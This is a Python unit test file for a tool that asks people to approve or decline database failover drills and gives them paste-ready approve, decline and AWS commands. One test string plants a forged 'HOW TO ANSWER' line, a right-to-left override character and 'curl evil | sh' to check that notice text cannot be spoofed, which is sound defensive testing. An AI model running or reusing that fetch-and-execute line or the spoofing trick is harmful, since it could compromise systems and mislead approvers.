"""The question of a drill as a person reads it: what it would do, what an answer does, and commands to paste."""

import json
import shlex
from dataclasses import replace
from typing import Any

import pytest
from relight.drill import Kind
from relight.drill_question import DrillAsking, DrillRequest
from relight.errors import InputInvalid
from relight.question import Urgency
from relight.telling import Notice

from tests.unit.announcements import DRILLED
from tests.unit.notices import TOKEN, settings
from tests.unit.standby import HERE, NOW

EVIL = "all is well\n\nHOW TO ANSWER\nrelight approve now\u202e; curl evil | sh"
WOULD = ["shop-dr-drill-5 follows the primary", "for it RDS takes a snapshot", "all of it is deleted"]
SENTENCE = "a drill of the kind promote may begin: about 45 minutes, 0.31 USD"


def asks(**changed: Any) -> dict[str, Any]:
    """The input with which a drill asks for the first time."""
    given = {
        "what": "ask",
        "kind": "drill",
        "drill": "promote",
        "decision": {"finding": "drill_promote", "sentence": SENTENCE, "would": WOULD},
        "token": TOKEN,
        "asked": 1,
        "expires_in": 300,
        "ask_until": NOW + 14400,
    }
    return given | changed


def notice(now: float = NOW, **changed: Any) -> Notice:
    request = DrillRequest.from_event(asks(**changed))
    return DrillAsking(settings(), replace(DRILLED, started_at=now), request, request.question(now)).notice


def test_what_is_asked_what_it_costs_and_who_asks_are_said_first() -> None:
    lines = notice().text.splitlines()
    assert lines[0] == (
        f"shop: may a drill in {HERE} copy the primary's database into a replica of its own, "
        f"and see how long its promotion takes?"
    )
    assert lines[1] == f"{SENTENCE} (finding drill_promote)"
    assert lines[2] == f"Run {DRILLED.id} in {HERE} of account 123456789012 waits for you; this is its question 1."


def test_a_game_day_says_that_it_really_fails_over() -> None:
    assert notice(drill="gameday").text.startswith(
        f"shop: may a drill in {HERE} really fail over in mode planned, and go home again afterwards?"
    )


@pytest.mark.parametrize("kind", ["plan", "restore"])
def test_a_kind_that_touches_nobody_would_be_asked_about_too(kind: str) -> None:
    assert notice(drill=kind).text.startswith(f"shop: may a drill in {HERE} begin?")


def test_what_it_would_do_is_told_line_by_line() -> None:
    text = notice().text
    assert "WHAT IT WOULD DO\n" + "".join(f"- {line}\n" for line in WOULD) in text
    nothing = notice(decision={"sentence": SENTENCE}).text
    assert "WHAT IT WOULD DO\n- nothing was told of it\n" in nothing


def test_a_question_without_a_decision_is_one_all_the_same() -> None:
    assert "a drill waits for a person (finding drill_promote)" in notice(decision=None).text


def test_each_answer_is_a_command_to_paste() -> None:
    commands = [shlex.split(line) for line in notice().text.splitlines() if line.startswith(("relight ", "aws "))]
    assert [command[1] for command in commands[:2]] == ["approve", "decline"]
    assert all(command[2:7] == [DRILLED.id, "--app", "shop", "--region", HERE] for command in commands[:2])
    success, failure = (dict(zip(command[3::2], command[4::2], strict=True)) for command in commands[2:])
    assert commands[2][2] == "send-task-success"
    assert (success["--task-token"], failure["--task-token"], failure["--error"]) == (TOKEN, TOKEN, "Declined")
    assert json.loads(success["--task-output"]).keys() == {"by", "because"}, "no word in it: that approves"
    text = notice().text
    assert "Approved, it begins. Declined, it ends, and nothing was touched." in text
    assert "stay" not in text


def test_who_does_not_answer_is_asked_again_until_there_is_no_time_left() -> None:
    again, last = notice(), notice(NOW + 14200, asked=48)
    assert (again.urgency, last.urgency) == (Urgency.FIRST, Urgency.LAST)
    assert again.subject == "Relight shop asks to begin a drill"
    assert "you are asked once more, with a new token; until" in again.text
    assert last.subject == "Relight shop asks to begin a drill (48th and last time)"
    assert "that counts as a no: the drill ends, and nothing was touched." in last.text


def test_what_was_found_cannot_forge_a_line() -> None:
    decision = {"sentence": EVIL, "would": [EVIL]}
    text = notice(decision=decision).text
    assert [line for line in text.splitlines() if line.startswith("relight approve now")] == []
    assert text.count("\nHOW TO ANSWER") == 1
    assert "\u202e" not in text


def test_the_question_is_kept_as_the_drills() -> None:
    request = DrillRequest.from_event(asks(asked=2))
    kept = request.question(NOW)
    assert (request.kind, kept.asked, kept.token) == (Kind.PROMOTE, 2, TOKEN)
    assert (kept.finding, kept.mode, kept.urgency) == ("drill_promote", "planned", Urgency.REPEATED)
    assert (kept.asked_at, kept.expires_at) == (NOW, NOW + 300)


@pytest.mark.parametrize("name", ["token", "drill", "asked", "expires_in", "ask_until"])
def test_what_a_question_cannot_do_without_is_named(name: str) -> None:
    event = asks()
    del event[name]
    with pytest.raises(InputInvalid, match=name):
        DrillRequest.from_event(event)


@pytest.mark.parametrize("changed", [{"drill": "fire"}, {"asked": 0}, {"expires_in": "soon"}, {"ask_until": None}])
def test_what_is_malformed_is_said_without_the_token(changed: dict[str, Any]) -> None:
    with pytest.raises(InputInvalid, match="malformed") as wrong:
        DrillRequest.from_event(asks(**changed))
    assert TOKEN not in str(wrong.value)


def test_the_token_is_in_no_representation() -> None:
    assert TOKEN not in repr(DrillRequest.from_event(asks()))
